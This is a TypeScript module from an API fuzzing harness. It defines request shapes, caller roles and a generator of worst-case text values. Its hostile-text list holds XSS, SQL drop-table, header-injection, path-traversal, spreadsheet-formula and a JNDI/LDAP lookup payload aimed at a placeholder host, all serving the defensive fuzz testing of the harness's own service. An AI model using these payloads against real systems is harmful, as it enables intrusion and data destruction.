// What every class of fuzz input shares: who sends it, the fixture ids it aims at, and hostile text.
import type { Random } from "./random";

export const INPUT_CLASSES = ["json", "query", "path", "headers", "multipart", "csv"] as const;
export type InputClass = (typeof INPUT_CLASSES)[number];

export type Role = "viewer" | "technician" | "engineer" | "admin";
export type Method = "GET" | "POST" | "PUT" | "PATCH" | "DELETE";

/** Who sends a request: a signed-in role by API token or by session cookie, or nobody. */
export type CallerRef = { auth: "token" | "cookie"; role: Role } | { auth: "none" };

/** The ids the campaign's own fixture made, so generated requests reach real rows as well as unknown ones. */
export interface FixtureIds {
  projectId: string;
  designId: string;
  buildId: string;
  runId: string;
  tweakId: string;
}

export interface FuzzInput {
  index: number;
  class: InputClass;
  method: Method;
  /** Path and query, already encoded as sent. */
  path: string;
  caller: CallerRef;
  headers: Record<string, string>;
  body?: Buffer;
  /** A printable account of the input for the report (bodies cut short). */
  summary: string;
}

export const UNKNOWN_ID = "00000000-0000-4000-8000-000000000000";

/** Text fields' worst cases: markup, control characters, NUL, lone surrogates, huge, odd Unicode, formulas. */
const HOSTILE_TEXT = [
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "nul\u0000inside",
  "\u0000",
  "line\r\nInjected-Header: 1",
  '=HYPERLINK("http://x.test")',
  "@SUM(1+1)",
  "'; drop table runs; --",
  "\ud800 lone high surrogate",
  "lone low \udc00",
  "x".repeat(3000),
  "   ",
  "",
  "🙂".repeat(50),
  "\u202eabc",
  "\u2066isolate\u2069",
  "e\u0301\u0301\u0301",
  "\ufeffbom",
  "../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "%2e%2e%2f",
  "${jndi:ldap://x.test/a}",
  "{{7*7}}",
  "__proto__",
  "constructor",
  "1e309",
  "-0",
  "NaN",
  "Infinity",
  "0x1F",
  "4.7q",
  "100u",
  "2.2n",
  "1k5",
  "R47",
];

/** A text field's value: mostly hostile cases, sometimes plain or control characters. */
export function text(r: Random): string {
  return r.weighted<() => string>([
    [4, () => r.pick(HOSTILE_TEXT)],
    [3, () => r.string(r.int(0, 40), "abcxyzABC 0123456789-_.,:;µΩ°±")],
    [2, () => r.string(r.int(1, 24))],
    [1, () => r.string(r.int(1, 12), "\u0000\u0001\u001f\u007f\u0085\u2028\u2029\ud800\udfff\ufffe\uffff")],
  ])();
}

export function short(value: string, max = 160): string {
  return value.length > max ? `${value.slice(0, max)}… (${value.length} chars)` : value;
}

export function caller(r: Random, lowest: Role | null): CallerRef {
  // Mostly a role allowed to make the request (so the input, not the role, decides), sometimes any role or none.
  const roles: Role[] = ["viewer", "technician", "engineer", "admin"];
  const allowed = lowest ? roles.slice(roles.indexOf(lowest)) : roles;
  if (r.bool(0.06)) return { auth: "none" };
  const role = r.bool(0.85) ? r.pick(allowed) : r.pick(roles);
  return { auth: r.bool(0.75) ? "token" : "cookie", role };
}
